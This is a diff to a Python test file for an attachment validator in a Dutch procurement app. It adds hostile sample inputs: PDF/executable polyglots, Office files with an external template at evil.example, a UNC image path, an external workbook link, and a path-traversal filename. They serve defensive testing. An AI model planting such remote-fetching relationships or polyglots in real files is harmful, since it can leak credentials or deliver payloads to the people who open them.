@@ -11,6 +11,7 @@ from procurement.pve import services
 from procurement.pve.content import diff_versions, render_markdown, word_diff
 from core.files import check_attachment
 from procurement.pve.models import PveStatus
+from tests.factories import PDF
 
 
 def _edit(pve, key, body):
@@ -229,15 +230,41 @@ def _zip(members: dict) -> bytes:
 
 DOCX = _zip({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"})
 XLSX = _zip({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"})
+RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def _office(kind: str, rels: str, target: str, mode: str = "External", extra: dict | None = None) -> bytes:
+    """A DOCX or XLSX whose main part has one relationship of `rels` type to `target`."""
+    part = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}[kind]
+    folder, name = part.rsplit("/", 1)
+    link = (f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            f'<Relationship Id="rId1" Type="{RELS}/{rels}" Target="{target}" TargetMode="{mode}"/></Relationships>')
+    return _zip({"[Content_Types].xml": "<Types/>", part: "<x/>", f"{folder}/_rels/{name}.rels": link, **(extra or {})})
+
+
+EXTERNAL_WORKBOOK = _office("xlsx", "externalLink", "externalLinks/externalLink1.xml", mode="Internal", extra={
+    "xl/externalLinks/externalLink1.xml": "<externalLink/>",
+    "xl/externalLinks/_rels/externalLink1.xml.rels": _office("xlsx", "externalLinkPath", "file:///C:/geheim.xlsx")})
 ODT = _zip({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<office/>"})
 
 
 @pytest.mark.parametrize("name, data, expected", [
     # allowed: the type read from the content matches the extension
-    ("eisen.pdf", b"%PDF-1.7\n...", "pdf"),
+    ("eisen.pdf", PDF, "pdf"),
     ("eisen.docx", DOCX, "docx"),
     ("begroting.XLSX", XLSX, "xlsx"),
     ("notitie.odt", ODT, "odt"),
+    ("links.docx", _office("docx", "hyperlink", "https://www.rijksoverheid.nl/"), "docx"),
+    # refused: a PDF that is no PDF, or a program behind a PDF header (a polyglot)
+    ("eisen.pdf", b"%PDF-1.7\n...", None),
+    ("setup.pdf", b"%PDF-1.7\nMZ\x90\x00\x03\x00\x00\x00\x04\x00" + PDF[9:], None),
+    ("setup.pdf", b"%PDF-1.4\n\x7fELF\x02\x01\x01\x00" + PDF[9:], None),
+    ("eisen.pdf", PDF + b"MZ\x90\x00" + b"\x00" * 2048, None),
+    # refused: office files that fetch content from elsewhere when opened (hyperlinks stay)
+    ("begroting.xlsx", EXTERNAL_WORKBOOK, None),
+    ("brief.docx", _office("docx", "attachedTemplate", "http://evil.example/sjabloon.dotm"), None),
+    ("brief.docx", _office("docx", "image", "\\\\evil.example\\share\\logo.png"), None),
+    ("brief.docx", _office("docx", "image", "media/logo.png", extra={"word/_rels/x.rels": "<nope"}), None),
     # refused: other types, renamed files, a lying extension, bombs
     ("setup.exe", b"MZ\x90\x00", None),
     ("virus.pdf", b"MZ\x90\x00", None),
@@ -257,10 +284,10 @@ def test_attachment_types_are_checked_by_content(name, data, expected):
             check_attachment(name, data)
 
 
-def test_an_attachment_is_stored_under_a_generated_name_with_its_checksum(make_pve, tmp_path):
+def test_an_attachment_is_stored_under_a_generated_name_with_its_checksum(app, make_pve, tmp_path):
+    app.config["STORAGE_URL"] = tmp_path.as_uri()
     pve = make_pve()
-    attachment = services.add_attachment(pve, "../../eisen.pdf", b"%PDF-1.4 test", by=pve.latest.created_by,
-                                         upload_dir=str(tmp_path))
-    stored = services.attachment_path(attachment, str(tmp_path))
+    attachment = services.add_attachment(pve, "../../eisen.pdf", PDF, by=pve.latest.created_by)
+    stored = tmp_path / "pve" / attachment.stored_name
     assert attachment.filename == "eisen.pdf" and stored.parent == tmp_path / "pve"
-    assert stored.read_bytes() == b"%PDF-1.4 test" and len(attachment.sha256) == 64
+    assert stored.read_bytes() == PDF and len(attachment.sha256) == 64
